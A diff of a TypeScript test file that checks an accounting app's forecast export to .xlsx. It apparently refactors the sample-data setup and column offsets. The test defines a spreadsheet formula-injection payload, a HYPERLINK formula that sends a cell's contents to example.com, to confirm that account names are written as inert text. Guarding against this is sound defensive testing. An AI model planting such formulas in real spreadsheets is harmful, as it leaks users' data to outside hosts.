@@ -1,54 +1,21 @@
-import { DEFAULT_SETTINGS, resolveForecast } from '@millpond/core/forecast'
-import { assembleLedger } from '@millpond/core/ledger'
 import { type ModelInput, statementsOf } from '@millpond/core/statement'
 import { flatten, type StatementKind, statementTable } from '@millpond/core/table'
-import { addMonths, day } from '@millpond/core/time'
-import { learnTiming } from '@millpond/core/timing'
+import { addMonths } from '@millpond/core/time'
 import { cellName, modelWorkbook, tableWorkbook, type Workbook } from '@millpond/core/workbook'
-import { buildCompany } from '@millpond/sandbox/companies'
 import { HyperFormula } from 'hyperformula'
 import { describe, expect, it } from 'vitest'
-import { sampleRecords } from '../../gateway/src/sample/sample-records.ts'
 import { writeWorkbook } from '../src/platform/workbook/write-workbook.ts'
 import { type FileCell, type FileSheet, readWorkbook } from './_read-workbook.ts'
+import { bytesOf, sampleForecast } from './_sample-forecast.ts'
 
-const TODAY = day('2026-11-21')
-/** Months begin in the column F of every sheet. */
+/** The hidden sheets have their months from the column F on, the others right of their labels. */
 const FIRST_MONTH = 5
 const CODE_COLUMN = 1
-
-/** Kererū Coffee, as whoever tries the sample sees it. */
-function sample() {
-  const books = assembleLedger([sampleRecords(buildCompany('kereru', TODAY), TODAY)], TODAY)
-  const { ledger, accounts, documents, payments, organisation } = books
-  if (!organisation) throw new Error('The sample is an organisation')
-  const forecast = resolveForecast({
-    ledger,
-    basis: {
-      asOf: TODAY,
-      country: organisation.country,
-      yearBeginsMonth: organisation.reportingYearBeginsMonth,
-      salesTaxBasis: organisation.salesTaxBasis,
-      salesTaxPeriodMonths: organisation.salesTaxPeriodMonths,
-      accounts,
-      openDocuments: documents.filter(({ status }) => status === 'open'),
-      learned: learnTiming({ documents, payments, accounts, ledger, asOf: TODAY }),
-      expectedDates: {},
-      settings: DEFAULT_SETTINGS,
-      holidays: new Set(),
-      budget: null,
-      budgetName: null,
-      transfers: [],
-      customers: {},
-    },
-  })
-  return { ledger, forecast }
-}
 
 /** A name somebody gave an account so that a spreadsheet runs it. */
 const EVIL = '=HYPERLINK("http://example.com/?"&A1,"Sales")'
 
-const { ledger, forecast } = sample()
+const { ledger, forecast } = sampleForecast()
 const model = forecast.input
 const input: ModelInput = {
   ...model,
@@ -56,15 +23,7 @@ const input: ModelInput = {
 }
 const workbook = modelWorkbook(input, ['About', '=1+1', '@SUM(A1)', '-2 & more <text>'])
 const written = async (content: Workbook = workbook) =>
-  readWorkbook(new Uint8Array(await bytesOf(await writeWorkbook(content))))
-
-const bytesOf = (blob: Blob): Promise<ArrayBuffer> =>
-  new Promise((resolve, reject) => {
-    const reader = new FileReader()
-    reader.onload = () => resolve(reader.result as ArrayBuffer)
-    reader.onerror = () => reject(reader.error)
-    reader.readAsArrayBuffer(blob)
-  })
+  readWorkbook(await bytesOf(await writeWorkbook(content)))
 
 /** The file as a spreadsheet engine that nobody here wrote computes it. */
 function recalculated(sheets: readonly FileSheet[]) {
@@ -106,8 +65,8 @@ describe('the sample’s model as an .xlsx file', () => {
     const sheets = await written()
     const valueAt = recalculated(sheets)
     const sheetOf = (name: string) => sheets.find(sheet => sheet.name === name)
-    const months = input.months.map((_, month) => FIRST_MONTH + month)
-    const read = (name: string, row: number) => months.map(column => valueAt(name, row, column))
+    const read = (name: string, row: number, first = FIRST_MONTH) =>
+      input.months.map((_, month) => valueAt(name, row, first + month))
     const byCode = (name: string, code: string) =>
       read(name, rowNamed(sheetOf(name), CODE_COLUMN, code))
     const statements = statementsOf(input)
@@ -119,11 +78,11 @@ describe('the sample’s model as an .xlsx file', () => {
     for (const { key, name, amounts } of statements.cash) {
       expect(byCode('Cash', key), name).toEqual(exact(amounts))
     }
-    const closing = read('Cash_flow', rowNamed(sheetOf('Cash_flow'), 0, 'Closing balance'))
+    const closing = read('Cash flow', rowNamed(sheetOf('Cash flow'), 0, 'Closing balance'), 2)
     expect(closing.map(dollars => Math.round(Number(dollars) * 100))).toEqual(
       exact(statements.closingCash),
     )
-    for (const row of [3, 4]) expect(read('Checks', row)).toEqual(months.map(() => 0))
+    for (const row of [3, 4]) expect(read('Checks', row, 1)).toEqual(input.months.map(() => 0))
   }, 120_000)
 
   it('has every text as text, whatever it begins with, and every formula as a formula', async () => {
